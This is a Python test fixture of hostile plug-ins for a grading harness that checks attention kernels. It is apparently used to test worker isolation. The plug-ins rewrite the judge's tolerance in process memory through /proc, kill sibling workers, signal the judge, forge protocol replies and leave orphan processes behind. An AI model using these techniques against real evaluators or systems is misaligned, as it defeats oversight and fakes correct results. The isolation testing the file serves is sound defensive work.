"""Plug-ins that attack the judge from their worker, as a hostile user would write them (tests/test_isolation.py).

Each finds the judge and the other workers the way code on the same machine can (its parent's PID, a scan of
/proc for the harness's command lines), tries its trick, and leaves a line on stderr saying what it reached. In its
own namespaces a worker finds nothing to reach; without them (ATTN_NAMESPACES=0), the same code
rewrites the judge's tolerance in memory, kills its siblings, signals the judge (tests show both).
"""

from __future__ import annotations

import ctypes
import os
import signal
import struct
import subprocess
import sys
import time

import torch

from impl import naive

TOLERANCE = 1e-3  # harness.verify.compare.ABS_TOL: the float the memory attack rewrites in the judge


def _cmdline(pid: str) -> str:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return ""


def judges() -> list[int]:
    """The judge's PID as this process can learn it: its parent, and a scan of /proc for the command line of its own
    run (HOSTILE_MARK, a string only that run's command line holds: the attack must never reach another process
    on the machine, such as the test session itself)."""
    found = {os.getppid()} - {0, 1}
    mark = os.environ.get("HOSTILE_MARK")
    for pid in filter(str.isdigit, os.listdir("/proc")) if mark else []:
        if int(pid) != os.getpid() and mark in _cmdline(pid) and "harness.verify" not in _cmdline(pid):
            found.add(int(pid))
    return sorted(found)


def siblings() -> list[int]:
    """Other workers of this run: the other children of its parent (the judge, or the namespace's init)."""
    found = set()
    try:
        for tid in os.listdir(f"/proc/{os.getppid()}/task"):
            with open(f"/proc/{os.getppid()}/task/{tid}/children") as f:
                found |= {int(c) for c in f.read().split()}
    except OSError:
        pass
    return sorted(found - {os.getpid()})


def say(text: str) -> None:
    """What the attack reached: on stderr, and appended to $HOSTILE_LOG for the tests."""
    print(f"attack: {text}", file=sys.stderr, flush=True)
    if os.environ.get("HOSTILE_LOG"):
        with open(os.environ["HOSTILE_LOG"], "a") as f:
            f.write(text + "\n")


# ---------------------------------------------------------------------------------------------------------
# rewriting the judge's memory: the float compare() takes as its default tolerance becomes 1e30 (any error passes)


def _mapping_of(addr: int, maps: str) -> tuple[int, int, str] | None:
    """(start, file offset, path) of the mapping holding addr."""
    for line in maps.splitlines():
        parts = line.split()
        lo, hi = (int(x, 16) for x in parts[0].split("-"))
        if lo <= addr < hi and len(parts) >= 6:
            return lo, int(parts[2], 16), parts[5]
    return None


def _static_in(obj, maps: str) -> int | None:
    """The address in another process of a static object of the interpreter (float's type, None): the same binary,
    mapped elsewhere."""
    with open("/proc/self/maps") as f:
        mine = _mapping_of(id(obj), f.read())
    if mine is None:
        return None
    lo, off, path = mine
    for line in maps.splitlines():
        parts = line.split()
        if len(parts) >= 6 and parts[5] == path and int(parts[2], 16) == off:
            return int(parts[0].split("-")[0], 16) + (id(obj) - lo)
    return None


def _regions(mem, maps: str):
    for line in maps.splitlines():
        parts = line.split()
        if parts[1][:2] != "rw" or (len(parts) >= 6 and not parts[5].startswith("[heap")):
            continue  # anonymous or heap, writable: where Python objects live
        lo, hi = (int(x, 16) for x in parts[0].split("-"))
        try:
            mem.seek(lo)
            yield lo, mem.read(hi - lo)
        except (OSError, OverflowError, ValueError):
            continue


def _find(data: bytes, pattern: bytes):
    at = data.find(pattern)
    while at >= 0:
        yield at
        at = data.find(pattern, at + 1)


def rewrite_memory(pid: int) -> int:
    """-> how many floats were rewritten in pid's memory (raises OSError when its memory cannot be opened): the
    float objects equal to TOLERANCE held by a 2-tuple (TOLERANCE, None), compare()'s defaults."""
    with open(f"/proc/{pid}/maps") as f:
        maps = f.read()
    ftype, ttype, none = (_static_in(o, maps) for o in (float, tuple, None))
    if None in (ftype, ttype, none):
        return 0
    with open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
        regions = list(_regions(mem, maps))
        floats = {lo + at - 8 for lo, data in regions for at in _find(data, struct.pack("<Qd", ftype, TOLERANCE))}
        held = set()
        for _, data in regions:  # every 2-tuple: (a float equal to TOLERANCE, None)?
            for at in _find(data, struct.pack("<QQ", ttype, 2)):
                item, rest = struct.unpack_from("<QQ", data, at + 16) if at + 32 <= len(data) else (0, 0)
                if item in floats and rest == none:
                    held.add(item)
        for f in held:
            mem.seek(f + 16)
            mem.write(struct.pack("<d", 1e30))
    return len(held)


_done: set[str] = set()


def once(name: str, fn) -> None:
    if name not in _done:
        _done.add(name)
        fn()


def rewrites_judge_memory(x, weights, **kw):
    """Wrong by a factor of 2, after rewriting the judge's tolerance in its memory."""

    def attack():
        for pid in judges():
            try:
                say(f"rewrote {rewrite_memory(pid)} floats in process {pid}")
            except OSError as e:
                say(f"cannot write the memory of {pid}: {e}")
        if not judges():
            say("no judge process visible")

    once("memory", attack)
    return naive.attention(x, weights, **kw) * 2


def kills_siblings(x, weights, **kw):
    """Correct, after SIGKILL to every other worker it can find."""

    def attack():
        if not siblings():
            say("no other worker visible")
        for pid in siblings():
            try:
                os.kill(pid, signal.SIGKILL)
                say(f"killed {pid}")
            except OSError as e:
                say(f"cannot kill {pid}: {e}")

    once("siblings", attack)
    return naive.attention(x, weights, **kw)


def _signals_judge(sig: int):
    def attention(x, weights, **kw):
        def attack():
            for pid in judges():
                try:
                    os.kill(pid, sig)
                    say(f"sent {signal.Signals(sig).name} to {pid}")
                except OSError as e:
                    say(f"cannot signal {pid}: {e}")

        once("signal", attack)
        if not judges():
            once("nothing", lambda: say("no judge process visible"))
        return naive.attention(x, weights, **kw)

    return attention


sigkills_judge = _signals_judge(signal.SIGKILL)
sigterms_judge = _signals_judge(signal.SIGTERM)
sigints_judge = _signals_judge(signal.SIGINT)
sigusr1s_judge = _signals_judge(signal.SIGUSR1)
sigstops_judge = _signals_judge(signal.SIGSTOP)


def outlives_its_verdict(config, weights):
    """A module whose build() leaves a process behind: setsid and a double fork, the grandchild sleeping with a
    marker (HOSTILE_SLEEPER) in its command line for the test to look for after the run."""
    mark = os.environ.get("HOSTILE_SLEEPER", "hostile-sleeper")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", mark], start_new_session=True)
        os._exit(0)
    os.wait()

    def layer(x, position_ids, attention_mask=None):
        return naive.attention(x, weights, config=config, position_ids=position_ids, attention_mask=attention_mask)

    return layer


def reads_stdin(x, weights, **kw):
    """Correct, after reading its stdin (once the protocol's channel; now /dev/null)."""
    once("stdin", lambda: say(f"read {len(os.read(0, 100))} bytes from stdin"))
    return naive.attention(x, weights, **kw)


def huge_reply(x, weights, **kw):
    """1.6 GB of the wrong shape."""
    return torch.zeros(20_000, 20_000)


def one_tuple(x, weights, **kw):
    return (naive.attention(x, weights, **kw),)


def quantized(x, weights, **kw):
    return torch.quantize_per_tensor(naive.attention(x, weights, **kw), 0.01, 0, torch.qint8)


def _forge(header: dict, tensors: dict | None = None) -> None:
    """Write a reply of its own making into the protocol's channel (the worker's last argument)."""
    import json

    from safetensors.torch import save

    head, blob = json.dumps(header).encode(), save(tensors) if tensors else b""
    os.write(int(sys.argv[-1]), struct.pack("<QQ", len(head), len(blob)) + head + blob)


def lies_about_shape(x, weights, **kw):
    """A reply that says [B, S, D] float32 and carries a 0-dim tensor."""
    d = {"type": "tensor", "shape": list(x.shape), "dtype": "float32", "device": "cpu", "layout": "strided",
         "sendable": True}  # fmt: skip
    _forge({"ok": True, "results": [d]}, {"r0": torch.tensor(1.0)})
    time.sleep(600)


def lies_about_dtype(x, weights, **kw):
    """A reply that says float32 and carries float64 (the right values)."""
    out = naive.attention(x.double(), {k: v.double() for k, v in weights.items()}, **kw)
    d = {"type": "tensor", "shape": list(x.shape), "dtype": "float32", "device": "cpu", "layout": "strided",
         "sendable": True}  # fmt: skip
    _forge({"ok": True, "results": [d]}, {"r0": out})
    time.sleep(600)


def hangs(x, weights, **kw):
    """Says so, then hangs: the tests stop the run while a worker is busy."""
    say("hanging")
    time.sleep(600)


def pdeathsig_cleared(x, weights, **kw):
    """Clears its parent-death signal (so killing `unshare` alone would not end it), then hangs."""
    ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
    time.sleep(600)
